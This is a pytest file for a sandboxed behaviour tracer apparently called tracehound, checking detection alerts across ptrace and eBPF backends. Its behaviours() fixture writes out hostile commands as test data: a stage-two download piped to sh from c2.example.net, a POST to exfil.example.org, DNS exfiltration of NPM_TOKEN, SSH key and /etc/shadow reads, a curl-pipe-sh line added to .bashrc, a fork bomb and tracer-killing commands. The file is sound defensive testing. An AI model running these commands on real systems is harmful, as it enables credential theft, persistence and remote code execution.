"""`tracehound trace` end to end, both capture backends, the same scripted behaviours.

Each behaviour is a shell script run with `tracehound trace --json --backend B -- sh -c SCRIPT` in a
fresh sandbox with the bundled rules. The ptrace (strace) and eBPF (bpftrace) backends must yield
the same alerts, and each behaviour must leave the evidence a reviewer needs: the rule that names
it, the DNS query and the HTTP request the sinkhole recorded, the honeytoken hit, the survivor.
Escape attempts must fail and still be recorded. Everything talks only to the sandbox's sinkhole
(the addresses below never leave the sandbox's network namespace) or to a listener on the host's
loopback that must stay unreachable.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

pytestmark = [pytest.mark.root, pytest.mark.slow]

BACKENDS = ["ptrace", "ebpf"]
TRACEHOUND = [str(Path(sys.executable).with_name("tracehound"))]


class HostListener:
    """A TCP service on the host's loopback that no sandboxed process may reach."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def host_listener():
    listener = HostListener()
    yield listener
    listener.close()


def behaviours(port: int) -> dict[str, str]:
    py = "python3 -c"
    return {
        "node spawns a shell": (
            "node -e \"require('child_process').execSync('sh -c \\\"wget -qO- http://c2.example.net/stage2 | sh\\\"')\""),
        "wget posts to a named host": "wget -q -O /dev/null --post-data=user=ci http://exfil.example.org/collect",
        "raw TCP to an IP address": (
            f"{py} \"import socket; s = socket.create_connection(('203.0.113.7', 4444)); "
            "s.sendall(b'beacon-7f3a'); s.close()\""),
        "DNS-only honeytoken exfiltration": (
            f"{py} \"import os, socket; socket.getaddrinfo(os.environ['NPM_TOKEN'].lower() + '.t.example', 53)\""),
        "ssh key read": "cat ~/.ssh/id_rsa > /dev/null",
        "bashrc write": "echo 'curl -s http://x.example | sh' >> ~/.bashrc",
        "binary written then executed": "cp /bin/true /tmp/.payload && chmod +x /tmp/.payload && /tmp/.payload",
        "detached survivor": "setsid sh -c 'sleep 120' < /dev/null > /dev/null 2>&1 &",
        "fork bomb": "b() { b | b & }; b; sleep 5",
        # escapes: each must fail, and be recorded
        "host file read": "cat /work/main/README.md /etc/shadow /root/.bash_history > /dev/null 2>&1; true",
        "host loopback service": (
            f"{py} \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)\"; true"),
        "IPv6 connection": (
            f"{py} \"import socket; s = socket.create_connection(('2001:db8::5', 8443)); s.sendall(b'v6-hello')\""),
        "raw sockets": (
            f"{py} \"import socket\nfor f, t in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):\n"
            "    try: socket.socket(f, t)\n    except OSError: pass\"; true"),
        "killing the tracer": "kill -9 -1 2>/dev/null; pkill -9 strace; pkill -9 bpftrace; cat ~/.ssh/id_rsa > /dev/null",
    }


def trace(backend: str, script: str, tmp: Path) -> dict:
    events = tmp / "events.jsonl"
    proc = subprocess.run(
        [*TRACEHOUND, "trace", "--backend", backend, "--timeout", "60", "--json", "--events", str(events),
         "--", "sh", "-c", script],
        capture_output=True, text=True, timeout=180)
    assert proc.returncode in (0, 1, 2), proc.stderr
    doc = json.loads(proc.stdout)
    doc["returncode"] = proc.returncode
    doc["events"] = [json.loads(line) for line in events.read_text().splitlines()] if events.exists() else []
    return doc


@pytest.fixture(scope="module")
def runs(host_listener, tmp_path_factory) -> dict[tuple[str, str], dict]:
    out = {}
    for backend in BACKENDS:
        for name, script in behaviours(host_listener.port).items():
            out[backend, name] = trace(backend, script, tmp_path_factory.mktemp("trace"))
    return out


def rules(doc: dict) -> set[str]:
    return {a["rule"] for a in doc["alerts"]}


@pytest.mark.parametrize("name", list(behaviours(0)))
def test_backends_raise_the_same_alerts(runs, name):
    assert rules(runs["ptrace", name]) == rules(runs["ebpf", name])


@pytest.mark.parametrize("backend", BACKENDS)
def test_nothing_was_lost(runs, backend):
    for (b, name), doc in runs.items():
        if b == backend and name != "fork bomb":
            assert doc["counters"]["lost"] is False, (name, doc["counters"])


def network(doc: dict, channel: str) -> list[dict]:
    return [r for r in doc["network"] if r["channel"] == channel]


@pytest.mark.parametrize("backend", BACKENDS)
def test_shell_spawned_by_node_fetching_a_second_stage(runs, backend):
    doc = runs[backend, "node spawns a shell"]
    assert {"Suspicious inline code run by package code", "Download and execute",
            "Download tool run by package code"} <= rules(doc)
    assert any(r["name"] == "c2.example.net" for r in network(doc, "dns"))


@pytest.mark.parametrize("backend", BACKENDS)
def test_named_host_dns_connection_and_payload_recorded(runs, backend):
    doc = runs[backend, "wget posts to a named host"]
    assert {"DNS lookup by package code", "Unexpected outbound connection",
            "Download tool run by package code"} <= rules(doc)
    assert {r["name"] for r in network(doc, "dns")} == {"exfil.example.org"}
    [tcp] = network(doc, "tcp")
    assert tcp["dst_port"] == 80
    request = base64_text(tcp)
    assert request.startswith("POST /collect HTTP/1.1\r\n") and "Host: exfil.example.org" in request
    assert request.endswith("user=ci")
    alert = next(a for a in doc["alerts"] if a["rule"] == "Unexpected outbound connection")
    assert alert["output_fields"]["fd.sip.name"] == "exfil.example.org"


def base64_text(record: dict) -> str:
    import base64

    return base64.b64decode(record["data"]["base64"]).decode()


@pytest.mark.parametrize("backend", BACKENDS)
def test_raw_tcp_to_an_ip_is_recorded(runs, backend):
    doc = runs[backend, "raw TCP to an IP address"]
    assert "Unexpected outbound connection" in rules(doc)
    [tcp] = network(doc, "tcp")
    assert (tcp["dst_ip"], tcp["dst_port"], base64_text(tcp)) == ("203.0.113.7", 4444, "beacon-7f3a")


@pytest.mark.parametrize("backend", BACKENDS)
def test_dns_only_honeytoken_exfiltration_is_proven(runs, backend):
    doc = runs[backend, "DNS-only honeytoken exfiltration"]
    assert "Honeytoken exfiltrated" in rules(doc)
    assert doc["honeytoken_hits"] and {h["channel"] for h in doc["honeytoken_hits"]} == {"dns"}
    assert {h["planted"] for h in doc["honeytoken_hits"]} == {"env:NPM_TOKEN"}
    assert not network(doc, "tcp")


@pytest.mark.parametrize(("name", "rule"), [
    ("ssh key read", "Credential file read by package code"),
    ("bashrc write", "Persistence file written by package code"),
    ("binary written then executed", "Execution from a temporary directory"),
    ("detached survivor", "Process survived its phase"),
])
@pytest.mark.parametrize("backend", BACKENDS)
def test_file_process_and_persistence_behaviours(runs, backend, name, rule):
    assert rule in rules(runs[backend, name])


@pytest.mark.parametrize("backend", BACKENDS)
def test_survivor_is_reported_and_killed(runs, backend):
    doc = runs[backend, "detached survivor"]
    survivors = {tuple(s["cmdline"]): s["pid"] for s in doc["survivors"]}
    assert ("sleep", "120") in survivors
    for pid in survivors.values():  # gone from the host (or a zombie, or the pid reused since)
        assert _cmdline(pid) not in (["sleep", "120"], ["sh", "-c", "sleep 120"]), pid


def _cmdline(pid: int) -> list[str]:
    try:
        raw = Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return []
    return [a.decode(errors="replace") for a in raw.split(b"\0") if a]


@pytest.mark.parametrize("backend", BACKENDS)
def test_fork_bomb_ends_the_run_not_the_host(runs, backend):
    doc = runs[backend, "fork bomb"]
    assert doc["limit_hit"] == "pids" and not doc["timed_out"]
    assert doc["returncode"] == 2 and "pids limit reached" in doc["inconclusive"]
    assert doc["duration_s"] < 60
    assert subprocess.run(["true"], timeout=10).returncode == 0


@pytest.mark.parametrize("backend", BACKENDS)
def test_host_files_are_not_there(runs, backend):
    doc = runs[backend, "host file read"]
    opens = [e for e in doc["events"] if e.get("evt.type") in ("openat", "open")
             and e.get("evt.arg.name") in ("/work/main/README.md", "/root/.bash_history")]
    assert {e["evt.arg.name"] for e in opens} == {"/work/main/README.md", "/root/.bash_history"}
    assert all(e["evt.rawres"] < 0 for e in opens)  # recorded, and failed


@pytest.mark.parametrize("backend", BACKENDS)
def test_host_loopback_service_is_unreachable(runs, backend, host_listener):
    doc = runs[backend, "host loopback service"]
    attempts = [e for e in doc["events"] if e.get("evt.type") == "connect" and e.get("fd.sip") == "127.0.0.1"
                and e.get("fd.sport") == host_listener.port]
    assert attempts  # recorded
    assert host_listener.accepted == 0  # and it never reached the host


@pytest.mark.parametrize("backend", BACKENDS)
def test_ipv6_goes_to_the_sinkhole(runs, backend):
    doc = runs[backend, "IPv6 connection"]
    assert "Unexpected outbound connection" in rules(doc)
    [tcp] = network(doc, "tcp")
    assert (tcp["dst_ip"], tcp["dst_port"], tcp["family"], base64_text(tcp)) == ("2001:db8::5", 8443, 6, "v6-hello")


@pytest.mark.parametrize("backend", BACKENDS)
def test_raw_and_packet_sockets_fail_and_are_recorded(runs, backend):
    doc = runs[backend, "raw sockets"]
    alerts = [a for a in doc["alerts"] if a["rule"] == "Raw or packet socket requested by package code"]
    assert len(alerts) == 2
    assert all("result=SUCCESS" not in a["output"] for a in alerts)


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_tracer_cannot_be_killed_from_inside(runs, backend):
    doc = runs[backend, "killing the tracer"]
    # the read after the kill attempts is still seen, and nothing was lost
    assert "Credential file read by package code" in rules(doc)
    assert doc["counters"]["lost"] is False


@pytest.mark.parametrize("backend", BACKENDS)
def test_events_name_the_sandbox_user_not_the_host_id(runs, backend):
    doc = runs[backend, "ssh key read"]
    [read] = [e for e in doc["events"] if e.get("evt.type") == "openat" and str(e.get("fd.name")).endswith("/.ssh/id_rsa")]
    assert read["user.name"] == doc["sandbox"]["user"]
    assert read["user.uid"] < 65536  # the persona's id, not the random host id it is mapped to
    alert = next(a for a in doc["alerts"] if a["rule"] == "Credential file read by package code")
    assert alert["output_fields"].get("user.name", doc["sandbox"]["user"]) == doc["sandbox"]["user"]
